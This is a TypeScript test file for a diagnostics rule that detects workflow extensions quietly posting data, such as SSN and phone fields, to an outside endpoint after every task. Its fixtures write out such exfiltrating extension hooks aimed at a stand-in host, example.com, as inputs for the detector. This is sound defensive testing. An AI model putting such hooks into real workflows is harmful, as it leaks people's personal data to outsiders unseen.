import { expect, it } from 'vitest';
import { extensionExfiltration } from '../../shared/diagnostics/rules/extension-exfiltration.ts';
import { describeRule, findingsIn, marked } from './ruleHarness.ts';

describeRule(extensionExfiltration);

const rule = extensionExfiltration;
const header = "document: { dsl: '1.0.3', namespace: n, name: a, version: '0.1.0' }\n";
const extended = (body: string, tasks = '- a: { set: { x: 1 } }') =>
  `${header}use:\n  extensions:\n  - log:\n      extend: all\n      after:\n      - send: { call: http, with: { method: post, endpoint: "https://example.com/", body: ${body} } }\ndo:\n${tasks}\n`;

it.each([
  [`"\${ . }"`, 1],
  [`{ x: "\${ .amount }" }`, 1],
  [`{ x: "\${ $task.name }" }`, 0],
  [`{ x: "\${ .items | length }" }`, 0],
  ['{ x: constant }', 0],
])('reads the body %s', (body, count) => {
  expect(marked(rule, extended(body))).toHaveLength(count);
});

it('tells a sensitive field once, and of all other data the first place of each extension', () => {
  const body = `{ a: "\${ .ssn }", b: "\${ .site }", c: "\${ .phone }", d: "\${ .amount }" }`;
  expect(marked(rule, extended(body))).toEqual(['.ssn', '.site', '.phone']);
  const data = `{ x: "\${ .amount }", y: "\${ .site }" }`;
  const event = `{ emit: { event: { with: { type: t, source: "https://example.com", data: ${data} } } } }`;
  const other = `  - tell: { extend: all, before: [ { say: ${event} } ] }\ndo:`;
  expect(marked(rule, extended(body).replace('do:', other))).toEqual(['.ssn', '.site', '.phone', '.amount']);
});

it('is certain of sensitive fields', () => {
  const found = findingsIn(extended(`{ x: "\${ .ssn }" }`)).filter(({ rule: id }) => id === rule.id);
  expect(found.some(({ severity, confidence }) => severity === 'error' && confidence === 'high')).toBe(true);
});

it('leaves the tasks themselves alone', () => {
  const tasks = `- a: { call: http, with: { method: post, endpoint: "https://example.com/", body: "\${ .amount }" } }`;
  expect(marked(rule, extended('{ x: constant }', tasks))).toEqual([]);
});
